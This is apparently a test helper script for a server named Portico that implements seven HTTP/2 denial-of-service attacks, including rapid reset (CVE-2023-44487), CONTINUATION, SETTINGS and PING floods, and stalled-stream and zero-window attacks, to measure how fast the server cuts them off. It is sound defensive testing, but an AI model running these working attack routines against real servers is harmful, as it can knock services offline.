// HTTP/2 attacks for test/edge/h2-abuse.test.ts, run in a process of their own so their loops compete
// with Portico and with the well-behaved client for the CPU only, never for an event loop:
//   node test/helpers/h2-attack.ts <attack> <port> <ca file> <hostname> <ms>
// repeats the attack on new connections for <ms> and prints one JSON line: { attempts: Attempt[] }.
import http2 from 'node:http2';
import { readFileSync } from 'node:fs';
import { connectRaw, frame, literal, requestBlock, FRAME, FLAG } from './h2-frames.ts';

const { NGHTTP2_CANCEL } = http2.constants;
/**
 * How long one connection may keep attacking before the attack counts as not stopped. The slowest
 * defence is the stalled streams' (h2-abuse.test.ts sets requestMs to 3 s): 3.2–3.6 s, or ~7 s when the
 * stalled streams come in two rounds of requestMs; 10.1 s once in a full run at load ~13 (10 s was
 * the bound then). Unstopped, an attack goes on for as long as the test lets it.
 */
export const BOUND_MS = 14_000;

export const ATTACKS = ['rapid-reset', 'continuation-flood', 'settings-flood', 'ping-flood', 'streams-over-limit', 'bodies-never-sent', 'zero-window'] as const;
export type AttackName = (typeof ATTACKS)[number];

export interface Attempt {
  /** the first GOAWAY's error code; null: the connection was closed (or reset) without one reaching us */
  goaway: number | null;
  /** from the first attacking frame to the connection's close */
  ms: number;
  /** what the attack got done before it was stopped */
  detail: Record<string, number | null>;
}

interface Target {
  port: number;
  ca: string;
  hostname: string;
}

const yieldToIo = () => new Promise((resolve) => setImmediate(resolve));

/** HEADERS for a request, then RST_STREAM(CANCEL) at once, 50 pairs a write (CVE-2023-44487) */
async function rapidReset({ port, ca, hostname }: Target): Promise<Attempt> {
  const raw = await connectRaw(port, hostname, ca);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(NGHTTP2_CANCEL);
  const request = requestBlock(hostname, '/echo');
  const started = performance.now();
  let streamId = 1;
  while (!raw.socket.destroyed && performance.now() - started < BOUND_MS) {
    const pairs: Buffer[] = [];
    for (let i = 0; i < 50; i++, streamId += 2) pairs.push(frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, streamId, request), frame(FRAME.RST_STREAM, 0, streamId, cancel));
    raw.write(Buffer.concat(pairs));
    await yieldToIo();
  }
  const { goaway, at } = await raw.closed;
  const goawayFrame = raw.frames.find((f) => f.type === FRAME.GOAWAY);
  return { goaway, ms: at - started, detail: { streamsSent: (streamId - 1) / 2, lastStreamProcessed: goawayFrame ? goawayFrame.payload.readUInt32BE(0) & 0x7fffffff : null } };
}

/** a HEADERS frame without END_HEADERS, then CONTINUATION frames that never end the block */
async function continuationFlood({ port, ca, hostname }: Target): Promise<Attempt> {
  const raw = await connectRaw(port, hostname, ca);
  const field = literal('x-flood', 'a'.repeat(100));
  const started = performance.now();
  raw.write(frame(FRAME.HEADERS, FLAG.END_STREAM, 1, requestBlock(hostname, '/echo')));
  let sent = 0;
  while (!raw.socket.destroyed && performance.now() - started < BOUND_MS) {
    raw.write(frame(FRAME.CONTINUATION, 0, 1, field));
    if (++sent % 100 === 0) await yieldToIo();
  }
  const { goaway, at } = await raw.closed;
  return { goaway, ms: at - started, detail: { framesSent: sent, answered: raw.frames.filter((f) => f.type === FRAME.HEADERS).length } };
}

/** SETTINGS or PING frames as fast as the socket takes them, their ACKs read */
function controlFlood(build: () => Buffer) {
  return async ({ port, ca, hostname }: Target): Promise<Attempt> => {
    const raw = await connectRaw(port, hostname, ca);
    const started = performance.now();
    let sent = 0;
    while (!raw.socket.destroyed && performance.now() - started < BOUND_MS) {
      raw.write(build());
      if (++sent % 50 === 0) await yieldToIo();
    }
    const { goaway, at } = await raw.closed;
    return { goaway, ms: at - started, detail: { framesSent: sent } };
  };
}

/** POST streams without END_STREAM, far past SETTINGS_MAX_CONCURRENT_STREAMS: the extra ones are refused */
async function streamsOverLimit({ port, ca, hostname }: Target): Promise<Attempt> {
  const raw = await connectRaw(port, hostname, ca);
  // :method POST (static index 3) instead of GET
  const post = Buffer.concat([Buffer.from([0x83]), requestBlock(hostname, '/upload').subarray(1)]);
  const started = performance.now();
  let streamId = 1;
  while (!raw.socket.destroyed && performance.now() - started < BOUND_MS && streamId < 2 * 5_000) {
    const batch: Buffer[] = [];
    for (let i = 0; i < 50; i++, streamId += 2) batch.push(frame(FRAME.HEADERS, FLAG.END_HEADERS, streamId, post));
    raw.write(Buffer.concat(batch));
    await yieldToIo();
  }
  const { goaway, at } = await raw.closed;
  const refused = raw.frames.filter((f) => f.type === FRAME.RST_STREAM && f.payload.readUInt32BE(0) === http2.constants.NGHTTP2_REFUSED_STREAM).length;
  return { goaway, ms: at - started, detail: { streamsSent: (streamId - 1) / 2, refusedSeen: refused } };
}

async function session({ port, ca, hostname }: Target, options: http2.SecureClientSessionOptions = {}) {
  const client = http2.connect(`https://127.0.0.1:${port}`, { ca, servername: hostname, checkServerIdentity: () => undefined, ...options });
  client.on('error', () => undefined);
  await new Promise((resolve, reject) => {
    client.once('remoteSettings', resolve);
    client.once('error', reject);
  });
  let goaway: number | null = null;
  client.on('goaway', (code) => (goaway ??= code));
  const closed = new Promise<{ goaway: number | null; at: number }>((resolve) => client.once('close', () => resolve({ goaway, at: performance.now() })));
  // kept alive the way an attacker would: a PING every 200 ms, well under the limit
  const pinging = setInterval(() => !client.destroyed && client.ping(() => undefined), 200);
  closed.then(() => clearInterval(pinging));
  const bounded = setTimeout(() => client.destroy(), BOUND_MS + 5_000);
  closed.then(() => clearTimeout(bounded));
  return { client, closed };
}

/** as many POST streams as the server allows, ten bytes of body each, then nothing */
async function bodiesNeverSent(target: Target): Promise<Attempt> {
  const { client, closed } = await session(target);
  const limit = client.remoteSettings.maxConcurrentStreams ?? 128;
  let cancelled = 0;
  const started = performance.now();
  for (let i = 0; i < limit; i++) {
    const stream = client.request({ ':method': 'POST', ':path': '/upload', ':authority': target.hostname, 'content-type': 'application/octet-stream' }, { endStream: false });
    stream.on('error', () => undefined);
    stream.on('close', () => stream.rstCode === NGHTTP2_CANCEL && cancelled++);
    stream.write(Buffer.alloc(10));
  }
  const { goaway, at } = await closed;
  return { goaway, ms: at - started, detail: { streams: limit, resetWithCancel: cancelled } };
}

/** SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE ever: 16 downloads that cannot move */
async function zeroWindow(target: Target): Promise<Attempt> {
  const { client, closed } = await session(target, { settings: { initialWindowSize: 0 } });
  let bytes = 0;
  const started = performance.now();
  for (let i = 0; i < 16; i++) {
    const stream = client.request({ ':path': '/download?bytes=8388608', ':authority': target.hostname });
    stream.on('error', () => undefined);
    stream.on('data', (chunk: Buffer) => (bytes += chunk.length));
  }
  const { goaway, at } = await closed;
  return { goaway, ms: at - started, detail: { streams: 16, bytesReceived: bytes } };
}

const RUN: Record<AttackName, (target: Target) => Promise<Attempt>> = {
  'rapid-reset': rapidReset,
  'continuation-flood': continuationFlood,
  'settings-flood': controlFlood(() => frame(FRAME.SETTINGS, 0, 0)),
  'ping-flood': controlFlood(() => frame(FRAME.PING, 0, 0, Buffer.alloc(8, 7))),
  'streams-over-limit': streamsOverLimit,
  'bodies-never-sent': bodiesNeverSent,
  'zero-window': zeroWindow,
};

if (process.argv[1] === import.meta.filename) {
  const [name, port, caFile, hostname, ms] = process.argv.slice(2);
  const target = { port: Number(port), ca: readFileSync(caFile, 'utf8'), hostname };
  const attempts: Attempt[] = [];
  const end = performance.now() + Number(ms);
  do attempts.push(await RUN[name as AttackName](target));
  while (performance.now() < end);
  process.stdout.write(`${JSON.stringify({ attempts })}\n`);
}
